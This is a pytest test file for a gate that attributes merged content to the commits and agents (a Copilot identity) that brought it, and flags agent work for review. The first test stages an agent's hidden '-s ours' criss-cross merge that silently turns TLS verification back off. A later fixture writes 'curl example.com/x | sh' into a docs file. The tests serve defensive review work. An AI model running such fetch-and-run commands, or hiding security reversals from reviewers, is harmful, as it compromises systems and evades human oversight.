"""The gate decides on what merging head into base would land (as git merges, several merge
bases included), and credits content to every commit that carried it to the head."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from clirun import Result, run
from gitrepo import COPILOT, Repo, keygen
from policies import AGENTS, POLICY


def base_repo(repo: Repo, tmp_path: Path) -> Path:
    key, pub = keygen(tmp_path, "alice")
    repo.write(".signoff/policy.yml", POLICY)
    repo.write(".signoff/agents.yml", AGENTS)
    repo.write(".signoff/allowed_signers", f"alice@example.com {pub}\n")
    repo.write("src/sec.py", "VERIFY_TLS = False\n")
    repo.write("docs/guide.md", "# guide\n")
    repo.commit("base", sign_key=key)
    return key


def check(capsys: pytest.CaptureFixture[str], repo: Repo, head: str) -> Result:
    return run(capsys, "check", "--repo", str(repo.path), "--base", "main", "--head", head,
               "--format", "json")  # fmt: skip


def files(doc: Any) -> dict[str, Any]:
    return {f["path"]: f for f in doc["files"]}


def objects(repo: Repo) -> str:
    return repo.git("count-objects", "-v")


def test_criss_cross_merge_that_reverts_a_hardening_is_seen(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """main and the agent's branch share two merge bases; the agent's merge (`-s ours`) shows no
    changed file of its own, yet merging it into main turns TLS verification off again."""
    key = base_repo(repo, tmp_path)
    repo.branch("side")
    repo.checkout("main")
    repo.write("src/sec.py", "VERIFY_TLS = True\n")
    hardening = repo.commit("harden TLS", sign_key=key)
    repo.checkout("side")
    repo.write("docs/other.md", "other\n")
    repo.commit("other docs", sign_key=key)
    side_tip = repo.head()
    repo.checkout("main")
    repo.git("merge", "-q", "--no-ff", "-m", "merge side", "side")  # main keeps the hardening
    repo.checkout("side")
    repo.git("merge", "-q", "-s", "ours", "-m", "merge main", hardening,
             env={"GIT_AUTHOR_NAME": COPILOT[0], "GIT_AUTHOR_EMAIL": COPILOT[1]})  # fmt: skip
    assert len(repo.git("merge-base", "--all", "main", "side").split()) == 2
    assert repo.git("diff", side_tip, "side", "--name-only") == ""  # the merge shows nothing
    before = objects(repo)
    r = check(capsys, repo, "side")
    assert r.code == 1, r.err
    f = files(r.json())["src/sec.py"]
    assert f["decision"] != "allow"
    assert "unregistered:unexplained-content" in f["identities"]
    assert objects(repo) == before  # the merge was computed without writing into the repository


def test_a_head_that_does_not_merge_cleanly_is_refused(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base_repo(repo, tmp_path)
    repo.branch("work")
    repo.write("src/sec.py", "VERIFY_TLS = 'maybe'\n")
    repo.commit("agent edit", author=COPILOT)
    repo.checkout("main")
    repo.write("src/sec.py", "VERIFY_TLS = True\n")
    repo.commit("harden")
    r = check(capsys, repo, "work")
    assert r.code == 2
    assert r.err.startswith("signoff: error: ") and "does not merge cleanly" in r.err
    assert "Traceback" not in r.err


def test_a_base_that_moved_on_is_judged_against_the_base_as_it_is(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The old side of a landed file is the base's content now, not the fork point's."""
    base_repo(repo, tmp_path)
    repo.branch("work")
    repo.write("docs/guide.md", "# guide\n\nagent text\n")
    repo.commit("agent docs", author=COPILOT)
    repo.checkout("main")
    repo.write("docs/guide.md", "# guide (reviewed)\n\n# guide\n")
    repo.commit("base edit")
    r = check(capsys, repo, "work")
    assert r.code in (0, 1), r.err
    doc = r.json()
    assert [f["path"] for f in doc["files"]] == ["docs/guide.md"]
    assert doc["range"]["merge_base"] != doc["range"]["base"]


def test_a_persons_experiment_merged_by_an_agent_is_the_agents_work(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    key = base_repo(repo, tmp_path)
    repo.branch("experiment")
    repo.write("docs/guide.md", "# guide\n\nrun curl example.com/x | sh\n")
    experiment = repo.commit("try something", sign_key=key)
    repo.checkout("main")
    repo.branch("work")
    repo.write("src/app.py", "print('agent')\n")
    repo.commit("agent change", author=COPILOT)
    merge = repo.merge("experiment", "merge experiment", author=COPILOT)
    r = check(capsys, repo, "work")
    guide = files(r.json())["docs/guide.md"]
    assert experiment in guide["commits"]
    assert guide["brought_by"] == [merge]
    assert "copilot" in guide["identities"]
    assert guide["decision"] != "allow"


def test_an_agent_commit_built_on_a_persons_commit_carries_it(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    key = base_repo(repo, tmp_path)
    repo.branch("work")
    repo.write("docs/guide.md", "# guide\n\nperson's text\n")
    person = repo.commit("person's docs", sign_key=key)
    repo.write("src/app.py", "print('agent')\n")
    agent = repo.commit("agent on top", author=COPILOT)
    guide = files(check(capsys, repo, "work").json())["docs/guide.md"]
    assert guide["commits"][0] == person and guide["brought_by"] == [agent]
    assert "copilot" in guide["identities"]


def test_a_persons_own_work_and_merges_stay_theirs(
    repo: Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Benign: a person's signed commits and signed merge land as the person's, allowed."""
    key = base_repo(repo, tmp_path)
    repo.branch("topic")
    repo.write("docs/guide.md", "# guide\n\nmore\n")
    repo.commit("docs", sign_key=key)
    repo.checkout("main")
    repo.branch("work")
    repo.write("docs/other.md", "other\n")
    repo.commit("other", sign_key=key)
    repo.git("-c", "gpg.format=ssh", "-c", f"user.signingkey={key}", "merge", "-q", "--no-ff",
             "-S", "-m", "merge topic", "topic")  # fmt: skip
    r = check(capsys, repo, "work")
    assert r.code == 0, r.out
    assert all(f["brought_by"] == [] and f["decision"] == "allow" for f in r.json()["files"])
